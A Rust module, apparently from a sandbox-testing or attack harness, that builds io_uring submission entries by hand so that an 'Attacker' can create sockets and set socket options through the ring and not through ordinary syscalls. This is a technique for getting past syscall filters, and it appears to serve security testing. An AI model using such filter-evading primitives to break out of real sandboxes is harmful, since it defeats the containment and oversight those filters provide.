//! io_uring, by hand: one request, one answer.

use std::ptr;

use crate::{
    attacker::Attacker,
    sys::{Answer, native, number},
};

const SUBMISSIONS: u64 = 0;
const ENTRIES: u64 = 0x1000_0000;
const SIZE: usize = 4096;

/// `socket`, through the attack's door.
pub(crate) fn socket(attacker: &mut Attacker, family: u32, kind: u64, protocol: u32) -> Answer {
    let mut entry = [0_u8; 64];
    entry[0] = 45; // IORING_OP_SOCKET (Linux 5.19)
    entry[4..8].copy_from_slice(&family.to_ne_bytes());
    entry[8..16].copy_from_slice(&kind.to_ne_bytes());
    entry[24..28].copy_from_slice(&protocol.to_ne_bytes());
    submit(attacker, entry)
}

/// Makes a ring through the attack's door, and asks for one thing.
fn submit(attacker: &mut Attacker, entry: [u8; 64]) -> Answer {
    let parameters = attacker.memory.zeros(120);
    let ring = attacker.attack(number::IO_URING_SETUP, [4, parameters, 0, 0, 0, 0])?;
    let offset = |at: u64| attacker.memory.read_u32(parameters + at) as usize;
    let (tail, array) = (offset(44), offset(64));
    let (head_of_answers, mask, answers) = (offset(80), offset(88), offset(100));
    let submissions = map(ring, SUBMISSIONS)?;
    let entries = map(ring, ENTRIES)?;
    for (at, byte) in entry.into_iter().enumerate() {
        // SAFETY: the first entry is within the mapping.
        unsafe { ptr::write_volatile(entries.wrapping_add(at), byte) };
    }
    write(submissions, array, 0);
    write(submissions, tail, 1);
    native(libc::SYS_io_uring_enter, [ring, 1, 1, 1, 0, 0])?;
    let place = (read(submissions, head_of_answers) & read(submissions, mask)) as usize;
    let result = read(submissions, answers + 16 * place + 8).cast_signed();
    match u64::try_from(result) {
        Ok(result) => Ok(result),
        Err(_) => Err(-result),
    }
}

fn map(ring: u64, offset: u64) -> Result<*mut u8, i32> {
    const SHARED: u64 = 1;
    let arguments = [0, SIZE as u64, 3, SHARED, ring, offset];
    let at = native(libc::SYS_mmap, arguments)?;
    Ok(ptr::with_exposed_provenance_mut(
        usize::try_from(at).unwrap_or(0),
    ))
}

fn write(ring: *mut u8, at: usize, value: u32) {
    // SAFETY: the kernel has said that this number is there.
    unsafe { ptr::write_volatile(ring.wrapping_add(at).cast::<u32>(), value) };
}

fn read(ring: *mut u8, at: usize) -> u32 {
    // SAFETY: the kernel has said that this number is there.
    unsafe { ptr::read_volatile(ring.wrapping_add(at).cast::<u32>()) }
}

/// `setsockopt` as a command (Linux 6.7): level and option, and where its value of four bytes is.
pub(crate) fn set_option(
    attacker: &mut Attacker,
    socket: i32,
    [level, option]: [u32; 2],
    value: u64,
) -> Answer {
    const SET_SOCKET_OPTION: u64 = 3;
    let mut entry = [0_u8; 64];
    entry[0] = 46; // IORING_OP_URING_CMD
    entry[4..8].copy_from_slice(&socket.to_ne_bytes());
    entry[8..16].copy_from_slice(&SET_SOCKET_OPTION.to_ne_bytes());
    entry[16..20].copy_from_slice(&level.to_ne_bytes());
    entry[20..24].copy_from_slice(&option.to_ne_bytes());
    entry[44..48].copy_from_slice(&4_u32.to_ne_bytes());
    entry[48..56].copy_from_slice(&value.to_ne_bytes());
    submit(attacker, entry)
}
